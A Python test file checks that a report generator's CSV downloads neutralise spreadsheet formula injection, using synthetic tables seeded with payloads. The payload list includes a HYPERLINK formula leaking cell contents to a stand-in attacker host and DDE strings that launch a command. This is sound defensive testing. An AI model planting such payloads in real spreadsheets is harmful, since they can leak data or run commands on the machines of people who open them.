"""The data downloads (bpsreport.downloads): names next to ids, UTF-8 with BOM for Excel,
and no cell that a spreadsheet program would run as a formula (OWASP CSV injection).

The clean tables here are SYNTHETIC: a tiny catalog and one edition whose text cells carry
a corpus of formula payloads, next to real negative numbers that must stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from bpsreport.downloads import FORMULA_STARTS, neutralise_formula, write_edition_downloads

ROOT = Path(__file__).resolve().parent.parent

# Payloads a hostile submission could carry (issue 12 §1), each must come out as text.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
    " =1+1",
    "\n=1+1",
    "=",
    "-",
    "@",
    "=1+1;=2+2",
]
# Text cells that are plain numbers are not formulas and stay as they are.
NUMBERS_AS_TEXT = ["-2.5", "+1", "-0", "-1e5", "42"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_neutralised(payload: str) -> None:
    assert neutralise_formula(payload) == "'" + payload


@pytest.mark.parametrize("text", NUMBERS_AS_TEXT + ["粤财办〔2018〕6号", "Ordinary note", "",
                                                     "148.9 ÷ 135.4% = 109.97", "a=b", "x-1"])
def test_numbers_and_ordinary_text_are_left_alone(text: str) -> None:
    assert neutralise_formula(text) == text


def test_every_listed_start_is_covered() -> None:
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}
    for start in FORMULA_STARTS:
        assert neutralise_formula(start + "x").startswith("'")


# --- a SYNTHETIC clean data folder --------------------------------------------------------------

def _clean_project(root: Path) -> Path:
    clean = root / "data" / "clean"
    (clean / "catalog").mkdir(parents=True)
    pd.DataFrame({"domain_id": ["education"], "order": [1], "name_zh": ["公共教育（合成）"],
                  "name_en": ["Education (synthetic)"], "lead_departments": ["edu"]}
                 ).to_parquet(clean / "catalog" / "domains.parquet", index=False)
    pd.DataFrame({"department_id": ["edu", "hrss"], "name_zh": ["合成教育厅", "合成人社厅"],
                  "name_en": ["Synthetic education dept", "Synthetic HR dept"]}
                 ).to_parquet(clean / "catalog" / "departments.parquet", index=False)
    pd.DataFrame({"indicator_id": ["change_rate", "teachers"], "domain_id": ["education"] * 2,
                  "name_zh": ["合成变化率", "合成教师数"], "name_en": ["Synthetic change", "Synthetic teachers"],
                  "unit": ["%", "人"]}
                 ).to_parquet(clean / "catalog" / "indicators.parquet", index=False)
    n = len(PAYLOADS)
    edition = clean / "test-unit" / "2017"
    edition.mkdir(parents=True)
    pd.DataFrame({
        "unit_id": ["test-unit"] * n, "year": [2017] * n, "domain_id": ["education"] * n,
        "indicator_id": ["change_rate"] * n, "measure": ["actual"] * n, "target_type": [""] * n,
        "value": [-2.5 - i for i in range(n)], "unit": ["%"] * n,
        "source": PAYLOADS, "derived": [False] * n, "formula": list(reversed(PAYLOADS)),
        "note": [f"SYNTHETIC line one\nline two {i}" for i in range(n)],
        "source_file": ["data/raw/x.csv"] * n, "source_sheet": [""] * n,
        "source_row": list(range(2, n + 2)),
    }).to_parquet(edition / "observations.parquet", index=False)
    pd.DataFrame({
        "unit_id": ["test-unit", "test-unit"], "year": [2017, 2017],
        "domain_id": ["education", "education"], "indicator_id": ["change_rate", "teachers"],
        "actual": [-3.25, 1200.0], "target": [None, 1000.0], "target_type": ["", "count"],
        "completion_rate": [None, 120.0], "completion_rate_stated": [False, False],
        "status": ["no_target", "met"], "actual_derived": [False, False],
        "target_derived": [False, False], "actual_source": ["@SUM(1)", "SYNTHETIC"],
        "target_source": ["", "-1+1"],
    }).to_parquet(edition / "assessment.parquet", index=False)
    (clean / "test-unit" / "2018").mkdir(parents=True)
    pd.DataFrame({
        "task_no": [1], "domain_id": ["education"], "title_zh": ["=合成任务"],
        "title_en": ["+Synthetic task"], "summary_zh": ["合成摘要"], "summary_en": ["-Synthetic"],
        "departments": ["edu;hrss"], "indicators": ["teachers"], "source": ["SYNTHETIC"],
    }).to_parquet(clean / "test-unit" / "2018" / "tasks.parquet", index=False)
    return root


def _read(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Excel"
    assert raw.split(b"\n", 1)[0].endswith(b"\r") and raw.endswith(b"\r\n"), "CRLF rows"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture
def downloads(tmp_path: Path) -> tuple[Path, list[Path]]:
    root = _clean_project(tmp_path / "project")
    folder = tmp_path / "site" / "downloads" / "2017"
    return folder, write_edition_downloads(root, "test-unit", 2017, folder)


def test_file_names_are_those_the_site_links(downloads) -> None:
    folder, written = downloads
    assert [p.name for p in written] == ["assessment-2017.csv", "observations-2017.csv",
                                         "tasks-2018.csv"]
    assert all(p.parent == folder for p in written)
    assert not list(folder.glob(".*")), "no temporary file left behind"
    # The mode of any file written here (the umask's), so a web server can read them as it
    # reads the pages; a temporary file from mkstemp would have been 0600.
    probe = folder.parent / "probe.txt"
    probe.write_text("")
    assert {p.stat().st_mode & 0o777 for p in written} == {probe.stat().st_mode & 0o777}


def test_payloads_reach_the_csv_as_text_and_negative_numbers_as_numbers(downloads) -> None:
    folder, _ = downloads
    rows = _read(folder / "observations-2017.csv")
    assert [r["source"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert [r["formula"] for r in rows] == ["'" + p for p in reversed(PAYLOADS)]
    assert [float(r["value"]) for r in rows] == [-2.5 - i for i in range(len(PAYLOADS))]
    assert rows[0]["value"] == "-2.5"  # a number, not '-2.5
    assert rows[0]["note"] == "SYNTHETIC line one\nline two 0"
    for row in rows:
        for column, cell in row.items():
            if column != "value":
                assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_names_in_both_languages_next_to_the_ids(downloads) -> None:
    folder, _ = downloads
    assessment = _read(folder / "assessment-2017.csv")
    columns = list(assessment[0])
    assert columns[:10] == ["unit_id", "year", "domain_id", "domain_name_zh", "domain_name_en",
                            "indicator_id", "indicator_name_zh", "indicator_name_en", "unit",
                            "actual"]
    assert columns[columns.index("status"):columns.index("status") + 3] == [
        "status", "status_zh", "status_en"]
    met = assessment[1]
    assert (met["indicator_name_zh"], met["indicator_name_en"], met["unit"]) == (
        "合成教师数", "Synthetic teachers", "人")
    assert (met["status_zh"], met["status_en"]) == ("已完成", "Met")
    assert assessment[0]["actual"] == "-3.25"
    assert (assessment[0]["actual_source"], assessment[1]["target_source"]) == ("'@SUM(1)", "'-1+1")

    [task] = _read(folder / "tasks-2018.csv")
    assert (task["departments"], task["departments_zh"], task["departments_en"]) == (
        "edu;hrss", "合成教育厅；合成人社厅", "Synthetic education dept; Synthetic HR dept")
    assert (task["indicators_zh"], task["indicators_en"]) == ("合成教师数", "Synthetic teachers")
    assert (task["title_zh"], task["title_en"], task["summary_en"]) == (
        "'=合成任务", "'+Synthetic task", "'-Synthetic")
    assert task["domain_name_en"] == "Education (synthetic)"


def test_an_edition_without_next_years_tasks_has_no_task_download(tmp_path: Path) -> None:
    root = _clean_project(tmp_path / "project")
    (root / "data/clean/test-unit/2018/tasks.parquet").unlink()
    written = write_edition_downloads(root, "test-unit", 2017, tmp_path / "out")
    assert [p.name for p in written] == ["assessment-2017.csv", "observations-2017.csv"]


def test_real_clean_data(cold_build) -> None:
    """On the real 2017 clean data (the shared cold build's): every text cell is safe."""
    root = cold_build.root
    clean = root / "data" / "clean"
    import tempfile
    with tempfile.TemporaryDirectory() as tmp:
        written = write_edition_downloads(root, "gd-province", 2017, Path(tmp))
        assessment = _read(Path(tmp) / "assessment-2017.csv")
        assert len(assessment) == len(pd.read_parquet(clean / "gd-province/2017/assessment.parquet"))
        assert all(r["indicator_name_zh"] and r["indicator_name_en"] for r in assessment)
        for path in written:
            for row in _read(path):
                for column, cell in row.items():
                    if cell.startswith(FORMULA_STARTS):
                        float(cell)  # only a number may start like a formula
